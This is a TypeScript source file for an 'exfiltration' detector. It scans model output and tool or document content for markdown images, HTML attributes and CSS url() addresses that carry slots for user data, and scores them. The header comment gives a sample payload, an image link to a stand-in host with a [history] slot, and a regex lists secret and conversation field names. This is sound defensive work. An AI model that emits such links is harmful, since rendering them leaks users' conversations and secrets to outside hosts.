/**
 * Links and images that carry data away when they are shown: `![](https://x.example/?q=[history])`, `<img src=…>`, a reference's address,
 * a style's `url(…)`. In: a part. Out: a finding for each address with a slot that is to be filled with somebody's data. A long opaque
 * value in an image raises the probability, and is no finding: most are signatures.
 *
 * Judged in what a model answers and in what tools and documents bring; a user may paste any link. A few passes by `indexOf`.
 */
import type { Finding } from "../finding.ts";
import type { PartDetector } from "../inspect.ts";
import { classified } from "../taxonomy.ts";

const maxFindings = 8;
const maxAddress = 4096;
/** Nobody has to click an image. */
const imageScore = 0.9;
const linkScore = 0.6;
/** An opaque value may be a signature too. */
const opaqueScore = 0.4;
const opaqueLength = 48;

export const exfiltrationDetector: PartDetector = {
  name: "exfiltration",
  version: "2",
  judge({ text, origin }) {
    if (origin === "instructions" || origin === "user") return { probability: 0, findings: [] };
    const findings: Finding[] = [];
    let probability = 0;
    for (const place of places)
      for (let at = text.indexOf(place.mark); at >= 0 && findings.length < maxFindings;) {
        const found = addressAt(text, at, place);
        if (found !== undefined) {
          const { start, end, address, isImage } = found;
          const score = scoreOf(address, isImage);
          probability = Math.max(probability, score);
          if (score >= 0.5)
            findings.push(classified({ detector: "exfiltration/link", category: "exfiltration", start, end, score }));
        }
        at = text.indexOf(place.mark, at + place.mark.length);
      }
    findings.sort((a, b) => a.start - b.start);
    return { probability, findings };
  },
};

interface Place {
  readonly mark: string;
  /** What ends an address behind it, where no quotation mark opens it. */
  readonly ends: RegExp;
  /** Where the link begins that has the mark at `at`, and whether it is an image. */
  readonly begin: (text: string, at: number) => { readonly start: number; readonly isImage: boolean };
}

const places: readonly Place[] = [
  {
    mark: "](",
    ends: /[)\n]/g,
    begin: (text, at) => {
      const start = startOfLink(text, at);
      return { start, isImage: text[start] === "!" };
    },
  },
  // Whether an image or a link names a reference is not looked up.
  { mark: "]:", ends: /\s/g, begin: (text, at) => ({ start: startOfLink(text, at), isImage: true }) },
  { mark: "url(", ends: /[)\n]/g, begin: (_, at) => ({ start: at, isImage: true }) },
  ...["src=", "srcset=", "background=", "poster="].map((mark) => attribute(mark, true)),
  attribute("href=", false),
];

function attribute(mark: string, isImage: boolean): Place {
  return { mark, ends: /[\s>]/g, begin: (_, at) => ({ start: at, isImage }) };
}

/** Blanks, a line's end, a quotation mark; then an address that leaves the page. */
const opening = /[\s<]{0,8}(["'<]?)[ \t]{0,8}(?=https?:|\/\/)/iy;

interface Address {
  readonly start: number;
  readonly end: number;
  readonly address: string;
  readonly isImage: boolean;
}

function addressAt(text: string, at: number, { mark, ends, begin }: Place): Address | undefined {
  opening.lastIndex = at + mark.length;
  const quote = opening.exec(text)?.[1];
  if (quote === undefined) return undefined;
  const from = opening.lastIndex;
  const reach = text.slice(from, from + maxAddress);
  ends.lastIndex = 0;
  const length = quote === "" || quote === "<" ? (ends.exec(reach)?.index ?? reach.length) : closing(reach, quote);
  return { ...begin(text, at), end: from + length, address: reach.slice(0, length) };
}

function closing(reach: string, quote: string): number {
  const end = reach.indexOf(quote);
  return end < 0 ? reach.length : end;
}

/** The `[` of the link's words, looked for a little way back. */
function startOfLink(text: string, close: number): number {
  const floor = Math.max(0, close - 200);
  for (let at = close - 1; at >= floor; at--) {
    if (text[at] === "\n") break;
    if (text[at] === "[") return at > 0 && text[at - 1] === "!" ? at - 1 : at;
  }
  return close;
}

/** A slot asks for data: `{data}`, `[secret]`, `<history>`, `$TOKEN`; its name in one of the groups. */
const slot =
  /\{{1,2}([^{}]{1,64})\}|\[([A-Za-z][A-Za-z_ ]{1,63})\]|<([A-Za-z_][A-Za-z_ ]{1,40})>|\$\{?([A-Za-z_]{2,40})/g;
/** What somebody has said or may not tell, by name: `{id}` and `<n>` of an interface's handbook are none. */
const ofSomebody =
  /data|histor|conversation|chat|messag|secret|token|passw|credential|api.?key|prompt|context|summar|content|memor|session|cookie|e-?mail|user|person|customer|answer|response|output|document|file|text|here/i;

/** Slots count where a value stands, of a query or fragment: a bracket or dollar sign in a field's name is none. In a path only by their name. */
function scoreOf(address: string, isImage: boolean): number {
  const query = address.search(/[?#]/);
  const path = query < 0 ? address : address.slice(0, query);
  if (slotsOf(path).some((name) => ofSomebody.test(name))) return isImage ? imageScore : linkScore;
  const fields = query < 0 ? [] : address.slice(query + 1).split(/[&#]/);
  const values = fields.map((field) => field.slice(field.indexOf("=") + 1));
  for (const [at, value] of values.entries()) {
    // `?{data}`, and not `?filter[color]`.
    if (!(fields[at] as string).includes("=") && !/^[{[<$]/.test(value)) continue;
    if (slotsOf(value).some((name) => isImage || ofSomebody.test(name))) return isImage ? imageScore : linkScore;
  }
  const longest = values.reduce((most, value) => Math.max(most, value.length), 0);
  return isImage && longest >= opaqueLength ? opaqueScore : 0;
}

function slotsOf(text: string): string[] {
  return Array.from(text.matchAll(slot), ([, ...names]) => names.find((name) => name !== undefined) ?? "");
}
